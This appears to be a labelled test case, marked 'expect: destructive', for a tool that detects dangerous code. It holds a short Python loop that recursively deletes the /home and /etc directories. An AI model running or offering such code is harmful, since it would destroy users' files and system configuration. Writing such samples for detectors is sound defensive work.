# expect: destructive
from shutil import rmtree

for folder in ["/home", "/etc"]:
    rmtree(folder)
